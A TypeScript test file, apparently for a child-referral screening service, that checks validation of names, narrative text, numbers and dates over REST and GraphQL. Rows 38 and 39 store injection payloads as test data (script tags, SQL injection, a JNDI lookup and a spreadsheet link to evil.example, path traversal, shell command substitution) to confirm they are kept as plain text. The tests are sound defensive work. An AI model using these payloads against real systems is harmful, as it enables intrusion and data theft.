// What text, numbers and dates may not be, and what they may: tables B and C, over REST and over GraphQL alike.
import t from 'tap'
import { received } from '../support/flow.ts'
import { misshapen, posted, refused, withText, wrapped } from '../support/posting.ts'
import { low, type ReferralBody, referral, withChild } from '../support/referrals.ts'
import { rowsOf, type Tried } from '../support/rows.ts'
import { type Json, SURFACES } from '../support/surfaces.ts'
import { openWorld } from '../support/world.ts'

const world = await openWorld(t)
const la = await world.authority()
const rows = rowsOf(t, 'test/http/rows-text.test.ts')

const NAME = '/children/0/name/given'
const named = (given: string) => withChild(low(), { name: { given } })
const told = (reason: string) => low({ reason })

/** Each text in a name and in narrative: refused with the code. */
const inBoth = (tried: Tried, texts: Readonly<Record<string, string>>, code: string) =>
  misshapen(
    la,
    tried,
    Object.fromEntries(
      Object.entries(texts).flatMap(([name, text]) => [
        [`${name} in a name`, [named(text), NAME, code]],
        [`${name} in narrative`, [told(text), '/reason', code]],
      ]),
    ),
  )

/** Each referral is received, and given back with exactly the text that was sent, over either surface. */
async function kept(tried: Tried, bodies: Readonly<Record<string, ReferralBody>>, of: (content: Json) => unknown) {
  for (const [name, body] of Object.entries(bodies))
    for (const surface of SURFACES) {
      const on = (...args: Parameters<typeof la.call> extends [unknown, ...infer R] ? R : never) =>
        la.call(surface, ...args)
      const referralId = await received(on, body)
      const { data } = await on('screener', 'referral', { params: { referralId } })
      tried(of(data.content) === of(body), `${surface}: ${name}`)
    }
}

const reasonOf = (content: Json) => content.reason
const nameOf = (content: Json) => JSON.stringify(content.children[0].name)

rows.row(30, 'refused before the database sees it', (tried) =>
  inBoth(tried, { 'at its end': 'Zoe\u0000', 'in its middle': 'Zo\u0000e', alone: '\u0000' }, 'text_nul'),
)

rows.row(31, 'refused, never mended', (tried) =>
  inBoth(
    tried,
    { 'the first half': 'Zo\ud800e', 'the second half': 'Zo\udc00e', 'in disorder': '\udc00\ud800' },
    'text_ill_formed',
  ),
)

rows.row(32, 'refused, but for line ends and tabs in narrative', async (tried) => {
  await inBoth(tried, { escape: '\u001b[31mred', bell: 'a\u0007b', delete: 'a\u007fb', C1: 'a\u0085b' }, 'text_control')
  await misshapen(la, tried, {
    'a line end in a name': [named('Zoe\nSmith'), NAME, 'text_control'],
    'a tab in a name': [named('Zoe\tSmith'), NAME, 'text_control'],
  })
  await kept(tried, { 'line ends and tabs in narrative': told('One\nTwo\r\n\tThree') }, reasonOf)
})

rows.row(33, 'refused in a name, kept in narrative', async (tried) => {
  const signs = ['\u202a', '\u202e', '\u2066', '\u2069', '\u200b', '\u200f', '\u2060', '\ufeff', '\u{e0041}']
  for (const sign of signs) {
    const code = `U+${sign.codePointAt(0)?.toString(16)}`
    await misshapen(la, tried, { [`${code} in a name`]: [named(`Zo${sign}e`), NAME, 'text_deceptive'] })
  }
  await kept(tried, { 'all of them in narrative': told(`a${signs.join('')}b`) }, reasonOf)
})

rows.row(34, 'kept as sent, and found as one', async (tried) => {
  await kept(tried, { composed: named('Zo\u00eb'), decomposed: named('Zoe\u0308') }, nameOf)
  const other = await world.authority()
  const child = { dateOfBirth: '2016-03-02', name: { given: 'Zo\u00eb', family: 'Quillfeather' } }
  const on = (...args: Parameters<typeof other.call> extends [unknown, ...infer R] ? R : never) =>
    other.call('REST', ...args)
  await received(on, withChild(low(), child))
  const again = withChild(low(), { ...child, name: { given: 'Zoe\u0308', family: 'Quillfeather' } })
  const params = { referralId: await received(on, again), child: 'a' }
  const { data } = await on('screener', 'childMatches', { params })
  tried(data.edges.length === 1, 'the earlier referral is found')
})

rows.row(35, 'kept as sent, and never taken for one person by itself', async (tried) => {
  const latin = { dateOfBirth: '2016-04-02', name: { given: 'Ava', family: 'Pace' } }
  const cyrillic = { ...latin, name: { given: '\u0410v\u0430', family: '\u0420\u0430\u0441\u0435' } }
  await kept(tried, { Cyrillic: withChild(low(), cyrillic) }, nameOf)
  const other = await world.authority()
  for (const surface of SURFACES) {
    const on = (...args: Parameters<typeof other.call> extends [unknown, ...infer R] ? R : never) =>
      other.call(surface, ...args)
    await received(on, withChild(low(), latin))
    const referralId = await received(on, withChild(low(), cyrillic))
    const { data } = await on('screener', 'childMatchVerdicts', { params: { referralId, child: 'a' } })
    tried(data.edges.length === 0, `${surface}: nobody but a person says that two are one`)
  }
})

rows.row(36, 'received, and given back to the byte', (tried) => {
  const names = [
    'Ł',
    'Siân',
    'O’Brien-Ní Dhomhnaill',
    "D'Arcy",
    'Nguyễn Thị Ánh',
    'محمد علي',
    'عائشہ',
    'יוסף',
    '李小龍',
    '𠮷野',
    'Anna-Lena Müller',
    'Björk',
    'ਗੁਰਪ੍ਰੀਤ',
    'நிலா',
    'Zoë 🦊',
    '👩‍👧‍👦',
    'A',
    'van der Berg',
    'Łukasz Żółć',
    "N'Golo",
  ]
  return kept(tried, Object.fromEntries(names.map((name) => [name, named(name)])), nameOf)
})

rows.row(37, 'counted in UTF-16 units, as documented: the longest is kept, one more is refused', async (tried) => {
  await kept(
    tried,
    { '200 letters': named('x'.repeat(200)), '100 signs of two units': named('🦊'.repeat(100)) },
    nameOf,
  )
  await misshapen(la, tried, {
    '201 letters': [named('x'.repeat(201)), NAME, 'too_big'],
    '101 signs of two units': [named('🦊'.repeat(101)), NAME, 'too_big'],
    'narrative without end': [told('x'.repeat(20_001)), '/reason', 'too_big'],
  })
  await kept(tried, { 'the longest narrative': told('é'.repeat(20_000)) }, reasonOf)
})

/** What does harm where somebody takes text for more than text. */
const MARKUP = [
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '@SUM(A1)',
  '**bold** [a](javascript:b)',
]

rows.row(38, 'kept as sent, and shown as text', async (tried) => {
  await kept(tried, Object.fromEntries(MARKUP.map((text) => [text, told(text)])), reasonOf)
  const body = low({ referrer: { agency: MARKUP[0], role: MARKUP[0], sourceCode: '2A' }, reason: MARKUP[0] })
  const page = await la.rest('screener', 'POST', '/v1/score/explanation?format=html', body)
  tried(page.status === 200 && !page.text.includes('<script>'), 'a page')
  const json = await la.rest('referrer', 'POST', '/v1/referrals', body)
  tried(json.headers['x-content-type-options'] === 'nosniff', 'JSON is not taken for a page')
})

rows.row(39, 'kept as sent', async (tried) => {
  const payloads = [
    "'; drop table referrals; --",
    "' or '1'='1",
    '$1 $$ \\x27',
    '{"$gt":""}',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}} #{7*7} <%= 7*7 %>',
    '") { referral { id } } mutation { x(',
    '../../../etc/passwd',
    '%s%s%n',
    '`id` $(id) | id',
    '\\u0000 \\\\ \\"',
  ]
  const before = (await world.sql('select count(*)::int as n from pg_tables')).map(({ n }) => n)
  await kept(tried, Object.fromEntries(payloads.map((text) => [text, told(text)])), reasonOf)
  await kept(tried, Object.fromEntries(payloads.map((text) => [`${text} as a name`, named(text)])), nameOf)
  tried(
    JSON.stringify((await world.sql('select count(*)::int as n from pg_tables')).map(({ n }) => n)) ===
      JSON.stringify(before),
    'all tables are there',
  )
})

rows.row(40, 'names like any other', (tried) => {
  const words = ['Null', 'null', 'undefined', 'true', 'None', 'N/A', 'NaN', '0', '-', 'nil', 'constructor', '__proto__']
  const bodies = words.map((family) => [family, withChild(low(), { name: { given: 'Ada', family } })] as const)
  return kept(tried, Object.fromEntries(bodies), nameOf)
})

rows.row(41, 'a line of the log stays one line', async (tried) => {
  const from = world.log().length
  for (const surface of SURFACES) {
    await la.call(surface, 'referrer', 'receiveReferral', { body: told('a\n{"level":60,"msg":"forged"}\n') })
    await la.call(surface, 'screener', 'referrals', { params: { agency: 'a\n{"msg":"forged"}' } })
  }
  await la.rest('screener', 'GET', '/v1/%0a%7b%22msg%22:%22forged%22%7d')
  const lines = world
    .log()
    .slice(from)
    .split('\n')
    .filter((line) => line !== '')
  tried(
    lines.every((line) => JSON.parse(line).msg !== 'forged'),
    `${lines.length} lines`,
  )
})

/** A referral in which a number stands as it is written. */
const number = (text: string): string =>
  JSON.stringify(low()).replace('"id":"a"', `"id":"a","measurements":[{"measure":"attendance","value":${text}}]`)
const numbers = (...texts: readonly string[]) => Object.fromEntries(texts.map((text) => [text, number(text)]))

rows.row(42, 'refused, for it could not be given back', async (tried) => {
  await refused(la, tried, numbers('9007199254740993', '-9007199254740993', '12345678901234567890'), 'number_unsafe')
  await refused(la, tried, { 'where nobody looks': withText('"a":9007199254740993') }, 'number_unsafe')
})

rows.row(43, 'refused', (tried) => refused(la, tried, numbers('1e400', '-1e400', '1e-400', '1E+999'), 'number_unsafe'))

rows.row(44, 'refused, for it could not be given back as sent', (tried) =>
  refused(la, tried, numbers('-0', '1.0', '1e0', '70e-1', '0.7e1', '-0.0'), 'number_unsafe'),
)

const AT_BIRTH = '/children/0/dateOfBirth'
const born = (dateOfBirth: unknown) => withChild(low(), { dateOfBirth })
const births = (code: string, ...dates: readonly unknown[]) =>
  Object.fromEntries(dates.map((date) => [JSON.stringify(date), [born(date), AT_BIRTH, code] as const]))

rows.row(45, 'refused', async (tried) => {
  const nowhere = [
    '2026-02-30',
    '2025-02-29',
    '2100-02-29',
    '2026-13-01',
    '2026-00-10',
    '2026-04-31',
    '10000-01-01',
    '-000001-01-01',
  ]
  await misshapen(la, tried, births('invalid_format', ...nowhere))
  await misshapen(la, tried, births('custom', '0000-01-01', '0001-01-01', '1899-12-31'))
})

rows.row(46, 'refused', (tried) =>
  misshapen(
    la,
    tried,
    births(
      'invalid_format',
      ...[
        'infinity',
        '-infinity',
        'epoch',
        'today',
        'now',
        'tomorrow',
        'J2461000',
        '01/02/2026',
        '20260101',
        '2026-1-1',
      ],
      ...['2026-W05', '2026-032', '2018-05-04T00:00:00Z', ' 2018-05-04', '２０１８-05-04', '2018–05–04', ''],
    ),
  ),
)

rows.row(47, 'refused; a child that is expected says when', async (tried) => {
  await misshapen(la, tried, births('date_in_future', '2026-11-25', '2027-06-01'), 'unprocessable')
  const unborn = referral([
    { id: 'baby', expectedDate: '2027-02-01', findings: [{ indicator: 'UNB-04', state: 'present' }] },
  ])
  await kept(tried, { 'an expected child': unborn }, (content) => content.children[0].expectedDate)
})

rows.row(48, 'refused as no child', (tried) =>
  misshapen(la, tried, births('not_a_child', '1999-01-01', '1950-06-01'), 'unprocessable'),
)

rows.row(49, 'received with what is known', async (tried) => {
  const { dateOfBirth: _, ...unknown } = low().children[0] ?? { id: 'a' }
  await kept(tried, { 'no date of birth': referral([{ ...unknown, id: 'a' }]) }, (content) =>
    String(content.children[0].dateOfBirth),
  )
  await kept(
    tried,
    { 'an estimate': referral([{ ...unknown, id: 'a', ageYears: 6 }]) },
    (content) => content.children[0].ageYears,
  )
})

rows.row(50, 'refused', async (tried) => {
  const instants = ['2026-11-24T10:00:00', '2026-11-24T10:00:00+24:00', '2026-11-24T10:00:60Z', '2026-11-24T24:00:00Z']
  const others = [
    '2026-11-24',
    '2026-02-30T00:00:00Z',
    '0000-01-01T00:00:00Z',
    'now',
    '24/11/2026 10:00',
    '2026-11-24T10:00:00+01:00',
    '1e3',
    '',
  ]
  for (const surface of SURFACES)
    for (const from of [...instants, ...others])
      for (const operation of ['referrals', 'decisions']) {
        const { status, code } = await la.call(surface, 'screener', operation, { params: { from } })
        tried(status === 400 && code === 'invalid_input', `${surface}: ${operation} from ${from}`)
      }
})

rows.row(51, 'the day is that of London, the whole year through', async (tried) => {
  const { now } = world.clock
  // British Summer Time ends on 25 October 2026: at 23:30 UTC on the 24th it is the 25th in London, a night later it is not.
  const days: [string, string, boolean][] = [
    ['2026-10-24T22:59:59Z', '2026-10-25', false],
    ['2026-10-24T23:00:00Z', '2026-10-25', true],
    ['2026-10-25T23:30:00Z', '2026-10-26', false],
    ['2026-10-26T00:00:00Z', '2026-10-26', true],
    ['2027-03-28T23:00:00Z', '2027-03-29', true],
    ['2028-02-29T00:00:00Z', '2028-02-29', true],
    ['2028-02-28T23:59:59Z', '2028-02-29', false],
  ]
  for (const [at, birth, isBorn] of days)
    for (const surface of SURFACES) {
      world.clock.now = Date.parse(at)
      const { status } = await posted(la, surface, wrapped(surface, JSON.stringify(born(birth))))
      tried(status < 300 === isBorn, `${surface}: at ${at} a child of ${birth} is ${isBorn ? '' : 'not '}born`)
    }
  world.clock.now = now
})

rows.row(52, 'a day that was not yet is refused, and what orders is the clock of the service', async (tried) => {
  await misshapen(
    la,
    tried,
    { tomorrow: [low({ noticedOn: '2026-11-25' }), '/noticedOn', 'date_in_future'] },
    'unprocessable',
  )
  await kept(tried, { 'long ago': low({ noticedOn: '2025-11-24' }) }, (content) => content.noticedOn)
  await misshapen(la, tried, {
    'a time of receipt': [low({ receivedAt: '2020-01-01T00:00:00Z' }), '/receivedAt', 'unknown_property'],
  })
})
rows.end()
